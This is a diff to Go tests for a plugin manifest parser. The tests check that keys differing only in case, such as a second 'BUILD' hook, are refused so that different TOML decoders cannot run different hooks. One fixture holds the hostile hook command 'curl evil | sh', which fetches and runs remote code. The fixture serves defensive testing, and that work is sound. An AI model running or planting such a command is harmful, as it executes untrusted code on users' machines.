@@ -78,16 +78,22 @@ func TestUnknownKeysMatchStrictMode(t *testing.T) {
 	}
 	for _, doc := range docs {
 		data := []byte(doc)
+		s := scanKeys(data, true)
 		m, err := Parse(data)
-		if err != nil {
+		var fe *FoldedKeyError
+		switch {
+		case s.folded != "" && !errors.As(err, &fe):
+			t.Errorf("Parse(%q) = %v, want it refused for the key %s", doc, err, s.folded)
+		case s.folded == "" && err != nil:
 			t.Errorf("Parse(%q): %v", doc, err)
+		case err == nil && !reflect.DeepEqual(m.Unknown, s.sorted()):
+			t.Errorf("Parse(%q).Unknown = %q, the scan says %q", doc, m.Unknown, s.sorted())
+		}
+		if s.inline {
 			continue
 		}
-		if s := scanKeys(data, true); s.inline {
-			continue
-		}
-		if want := strictUnknown(data); !reflect.DeepEqual(m.Unknown, want) {
-			t.Errorf("Parse(%q).Unknown = %q, strict mode says %q", doc, m.Unknown, want)
+		if want := strictUnknown(data); !reflect.DeepEqual(s.sorted(), want) {
+			t.Errorf("scan of %q: unknown %q, strict mode says %q", doc, s.sorted(), want)
 		}
 	}
 }
@@ -209,6 +215,10 @@ func FuzzUnknownKeys(f *testing.F) {
 		}
 		m, err := Parse(data)
 		d, derr := Decode(data)
+		var fe *FoldedKeyError
+		if errors.As(err, &fe) && derr == nil {
+			return // Parse alone looks for keys that differ only in case
+		}
 		if (err == nil) != (derr == nil) {
 			t.Fatalf("Parse error %v, Decode error %v", err, derr)
 		}
@@ -229,4 +239,29 @@ func strictUnknownOrNil(keys []string) []string {
 		return nil
 	}
 	return keys
+}
+
+// A key that names a field only when case is ignored is refused: go-toml
+// would decode BUILD into the build hook (the last spelling winning),
+// while the Rust fledge's serde ignores it and runs the other one.
+func TestKeysDifferingOnlyInCaseAreRefused(t *testing.T) {
+	t.Parallel()
+	for doc, key := range map[string]string{
+		"[plugin]\nname=\"x\"\nversion=\"1\"\n[hooks]\nbuild=\"make\"\nBUILD=\"curl evil | sh\"\n": "hooks.BUILD",
+		"[Hooks]\npost_install=\"x\"\n":                       "Hooks",
+		"[[commands]]\nName=\"a\"\nbinary=\"b\"\n":            "commands.Name",
+		"[capabilities]\nExec=true\n":                         "capabilities.Exec",
+		"plugin = {name=\"x\", Version=\"1\"}\n":              "plugin.Version",
+		"[plugin]\nname=\"x\"\n[hooks]\nPost_Install=\"y\"\n": "hooks.Post_Install",
+	} {
+		var m Manifest
+		if err := toml.Unmarshal([]byte(doc), &m); err != nil {
+			t.Fatalf("go-toml refuses %q: %v", doc, err)
+		}
+		_, err := Parse([]byte(doc))
+		var fe *FoldedKeyError
+		if !errors.As(err, &fe) || fe.Key != key {
+			t.Errorf("Parse(%q) = %v, want the key %s refused", doc, err, key)
+		}
+	}
 }
